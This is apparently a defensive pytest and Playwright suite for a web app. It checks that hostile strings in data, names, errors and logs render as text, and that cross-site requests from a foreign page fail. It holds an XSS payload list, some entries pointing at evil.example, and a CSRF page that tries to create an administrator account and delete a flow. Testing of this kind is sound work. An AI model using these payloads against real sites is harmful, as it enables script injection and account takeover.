"""What an attacker puts into data, names and errors is text in the page; what a foreign page sends does nothing."""

from __future__ import annotations

import csv
import json
import tempfile
from pathlib import Path

import pytest

from tests.fixtures.chromium import Window, chromium
from tests.fixtures.home import PASSWORD, Served, sluice
from tests.fixtures.web import serve

pytestmark = [pytest.mark.slow, pytest.mark.timeout(240), pytest.mark.xdist_group("chromium")]

CORPUS = [
    "<img src=x onerror=window.hit=1>",
    "<svg/onload=window.hit=2>",
    '"><script>window.hit=3</script>',
    "</title></script><script>window.hit=4</script>",
    "<iframe srcdoc='<script>parent.hit=5</script>'></iframe>",
    "<a href=javascript:window.hit=6 autofocus onfocus=window.hit=6>x</a>",
    "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.hit=7>'>",
    "{{constructor.constructor('window.hit=8')()}}${window.hit=8}",
    "javascript:alert(9)",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
]
CONNECTION = "kind: connection\nname: here\ntype: files\nroot: .\n---\n"
PRIMARY, SECOND = CORPUS[0], CORPUS[2]


@pytest.fixture(scope="module")
def site():
    """A server with hostile people, documents and data in it, and a browser that trusts it."""
    with tempfile.TemporaryDirectory(prefix="sluice-ui-") as folder:
        server = Served(Path(folder))
        server.start()
        try:
            me = server.settle()
            fill(server, me)
            with chromium(Path(folder) / "person", server.home) as browser:
                yield server, browser
        finally:
            server.stop()
            server.close()


def fill(server: Served, me: dict) -> None:
    data = server.data(me)
    with (data / "in.csv").open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["id", *CORPUS])
        writer.writerows([n, *CORPUS] for n in range(20))
    (data / "bad.csv").write_text(f'id,"{SECOND.replace(chr(34), chr(34) * 2)}"\n1,2\n2,"{PRIMARY}"\n')
    told = json.dumps(CORPUS[1])
    flow = (
        f"kind: flow\nname: good\ndescription: {told}\nparams: {{ p: {{ type: text, default: {told}, description: {told} }} }}\nsteps:\n"
        "  - read: { name: rows, connection: here, item: in.csv }\n"
        "  - check: { name: valid, from: rows, rules: [ { column: id, between: [100, 200] } ], on_fail: quarantine }\n"
        "  - write: { from: valid, connection: here, item: out.parquet }\n"
    )
    bad = (
        "kind: flow\nname: bad\nsteps:\n"
        f"  - read: {{ name: rows, connection: here, item: bad.csv, format: {{ type: csv, columns: {{ {json.dumps(SECOND)}: int64 }} }} }}\n"
        "  - write: { from: rows, connection: here, item: bad.parquet }\n"
    )
    file = server.folder / "hostile.yaml"
    file.write_text(f"{CONNECTION}{flow}---\n{bad}# {PRIMARY}\n")
    sluice(server.editor, "apply", str(file))
    assert sluice(server.editor, "run", "good", "--wait", expect=3)["counts"]["rejected"] == 20
    failed = sluice(server.editor, "run", "bad", "--wait", expect=1)
    assert SECOND in json.dumps(failed["error"], ensure_ascii=False).replace('\\"', '"'), failed["error"]
    sluice(server.editor, "secret", "set", "a", told="x")
    root = server.folder / "root"
    sluice(root, "user", "create", "o'<svg/onload=hit=10>@example.org", "--name", PRIMARY, "--role", "viewer")
    made = sluice(root, "user", "create", "admin@example.org", "--name", SECOND, "--role", "administrator")
    first = server.folder / "admin.txt"
    first.write_text(made["password"])
    sluice(server.folder / "admin", "login", "--url", server.url, "--ca", str(server.ca), "--tenant", "acme", "--email",
           "admin@example.org", "--password-file", str(first), "--new-password-file", str(server.folder / "password.txt"))  # fmt: skip


@pytest.fixture
def window(site):
    server, browser = site
    made = Window(browser, server.url)
    made.page.goto(server.url)
    made.sign_in("admin@example.org", PASSWORD, "acme")
    made.heading("Flows")
    yield made
    made.context.close()


def still_text(window: Window) -> None:
    """Nothing of the corpus has become markup, and nothing of it has run."""
    page = window.page
    page.wait_for_timeout(150)
    assert page.evaluate("window.hit") is None
    found = page.evaluate(
        "[...document.querySelectorAll('main img, main iframe, main object, main embed, main base, main meta, main style,"
        " main script, a[href^=javascript], [onerror], [onload], [onfocus]')].map((each) => each.outerHTML)"
    )
    assert found == []
    assert window.broken == []
    assert window.strangers() == []


@pytest.mark.security
@pytest.mark.req("SEC-P10", "SEC-W01", "SEC-W06")
def test_names_data_errors_and_logs_are_shown_as_text(window):
    page = window.page
    window.go("Runs")
    still_text(window)
    page.get_by_role("link", name="good").first.click()
    log = page.get_by_role("log")
    for each in CORPUS:
        log.get_by_text(each).first.wait_for()  # the columns of the file, in the line about its schema
    window.press("Show rejected rows")
    rejected = page.get_by_role("region", name="Rows in quarantine")
    rejected.get_by_text(PRIMARY).first.wait_for()
    still_text(window)
    window.go("Runs")
    page.get_by_role("link", name="bad").first.click()
    page.get_by_role("alert").get_by_text(SECOND).first.wait_for()
    still_text(window)
    for flow, text in (("good", CORPUS[1]), ("bad", PRIMARY)):
        window.go("Flows")
        page.get_by_role("link", name=flow, exact=True).first.click()
        page.locator(".cm-content").get_by_text(text).first.wait_for()
        still_text(window)
    window.go("Flows")
    page.get_by_role("link", name="good", exact=True).first.click()
    window.press("Run")
    assert page.get_by_role("dialog").get_by_label("p", exact=True).input_value() == CORPUS[1]
    still_text(window)
    window.press("Cancel")
    window.go("Users")
    page.get_by_role("cell", name=PRIMARY, exact=True).wait_for()
    still_text(window)
    for room in ("Audit trail", "Secrets", "Connections", "Recipients"):
        window.go(room)
        still_text(window)
    page.goto(f"{window.url}/flows/{CORPUS[0].replace('<', '%3C').replace('>', '%3E').replace(' ', '%20')}")
    still_text(window)


@pytest.mark.security
@pytest.mark.req("SEC-P10")
def test_an_error_about_what_is_typed_is_text(window):
    window.page.get_by_role("link", name="New flow").first.click()
    window.heading("New flow")
    window.write(f"kind: flow\nname: x\n{json.dumps(PRIMARY)}: 1\nsteps: []\n")
    window.press("Save")
    window.page.get_by_role("alert").wait_for()
    still_text(window)


@pytest.mark.security
@pytest.mark.req("SEC-W04", "SEC-T18")
def test_a_foreign_page_can_make_the_browser_ask_but_to_no_effect(site, window):
    """Forms, fetch and images of another site, in the browser of somebody who is signed in: 401, and nothing changes."""
    server, _ = site
    people = sluice(server.folder / "root", "user", "list")["items"]
    records = sluice(server.folder / "root", "audit", "list", "--limit", "500")["items"]
    ask = json.dumps({"email": "thief@example.org", "role": "administrator"})
    field = ask[:-1].replace('"', "&quot;") + ", &quot;name&quot;: &quot;"
    forms = "".join(
        f"<form id=f{n} method=post enctype={kind} target=t{n} action='{server.url}/api/v1/{path}'><input name='{field}' value='x&quot;}}'></form>"
        f"<iframe name=t{n}></iframe>"
        for n, (kind, path) in enumerate(
            (kind, path) for kind in ("text/plain", "application/x-www-form-urlencoded") for path in ("users", "flows/good/runs")
        )
    )  # fmt: skip
    fetches = f"""
      const told = []; window.told = told;
      const go = (path, more) => fetch("{server.url}/api/v1/" + path, more).then((a) => told.push(a.type + a.status), () => told.push("refused"));
      window.all = Promise.all([
        go("users", {{ method: "POST", mode: "no-cors", credentials: "include", body: '{ask}' }}),
        go("users", {{ method: "POST", credentials: "include", headers: {{ "content-type": "application/json" }}, body: '{ask}' }}),
        go("flows", {{ credentials: "include" }}),
        go("flows/good", {{ method: "DELETE", credentials: "include" }}),
      ]);
      for (const form of document.forms) form.submit();
    """
    with serve() as foreign:
        page = f"{forms}<img src='{server.url}/api/v1/flows'><script>{fetches}</script>"
        foreign.routes["/"] = (200, {"content-type": "text/html"}, page.encode())
        evil = window.context.new_page()
        answers: list = []
        evil.on("response", lambda answer: answers.append(answer))  # noqa: PLW0108 - it marks what it calls
        evil.goto(foreign.url())
        evil.evaluate("window.all")
        evil.wait_for_load_state("networkidle")
        assert sorted(evil.evaluate("window.told")) == ["refused"] * 4, "not even an answer without its text"
        posted = [each.status for each in answers if each.url.startswith(server.url) and each.request.method == "POST"]
        assert len(posted) >= 4
        assert set(posted) == {401}
        assert {each.status for each in answers if each.url.startswith(server.url)} <= {401, 404}, "404: a preflight"
        assert (
            evil.evaluate("[...document.querySelectorAll('iframe')].map((each) => each.contentDocument)") == [None] * 4
        )
        evil.close()
    assert sluice(server.folder / "root", "user", "list")["items"] == people
    after = sluice(server.folder / "root", "audit", "list", "--limit", "500")["items"]
    assert {each["action"] for each in after[: len(after) - len(records)]} <= {"session.refresh"}
    assert window.context.cookies() == []
